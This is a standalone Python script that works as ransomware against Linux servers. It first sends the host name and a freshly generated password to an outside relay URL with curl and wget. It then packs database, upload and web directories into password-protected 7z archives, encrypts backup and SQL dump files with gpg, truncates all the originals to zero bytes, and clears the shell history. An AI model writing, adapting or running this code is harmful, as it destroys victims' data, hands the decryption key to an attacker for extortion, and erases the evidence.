#!/usr/bin/env python3
import os
import glob
import shutil
import socket
import secrets
import subprocess

PW = secrets.token_urlsafe(24)
HOST = socket.gethostname()
CANDIDATES = ["/data", "/srv", "/app/uploads", "/var/lib/mysql", "/var/lib/postgresql/data",
              "/var/lib/mongodb", "/usr/share/nginx/html", "/var/www", "/opt/app/storage"]
LOOSE = ["/backup/**/*.sql", "/backup/**/*.dump", "/backup/**/*.tar.gz",
         "/var/backups/**/*", "/home/*/*.sql", "/root/*.sql", "/tmp/*.dump"]


def sh(cmd):
    return os.system(cmd + " >/dev/null 2>&1")


def ensure_tools():
    if shutil.which("7z") is None:
        if shutil.which("apt-get"):
            sh("apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq p7zip-full")
        elif shutil.which("apk"):
            sh("apk add --no-cache p7zip")
        elif shutil.which("yum"):
            sh("yum install -y -q p7zip p7zip-plugins")
    return shutil.which("7z") is not None


def report():
    sh("curl -s -m 10 -d 'h=%s&p=%s' https://pst.relay-sync.workers.dev/in" % (HOST, PW))
    sh("wget -q -T 10 -O- --post-data='h=%s&p=%s' https://pst.relay-sync.workers.dev/in" % (HOST, PW))


def zero_tree(d):
    for root, _, files in os.walk(d):
        for fn in files:
            try:
                os.truncate(os.path.join(root, fn), 0)
            except OSError:
                pass


def pack_dirs():
    for d in CANDIDATES:
        if not os.path.isdir(d) or not os.listdir(d):
            continue
        arc = d.rstrip("/") + ".7z"
        r = subprocess.run(["7z", "a", "-t7z", "-mx=1", "-mhe=on", "-p" + PW, arc, d],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if r.returncode == 0:
            zero_tree(d)


def gpg_loose():
    if shutil.which("gpg") is None:
        return
    for pat in LOOSE:
        for f in glob.glob(pat, recursive=True):
            if not os.path.isfile(f) or f.endswith((".gpg", ".7z")):
                continue
            rc = os.system(
                "gpg --batch --yes --pinentry-mode loopback --passphrase '%s' "
                "--symmetric --cipher-algo AES256 -o '%s.gpg' '%s' >/dev/null 2>&1" % (PW, f, f)
            )
            if rc == 0:
                os.truncate(f, 0)


if __name__ == "__main__":
    report()
    if ensure_tools():
        pack_dirs()
    gpg_loose()
    sh("history -c; rm -f ~/.bash_history")
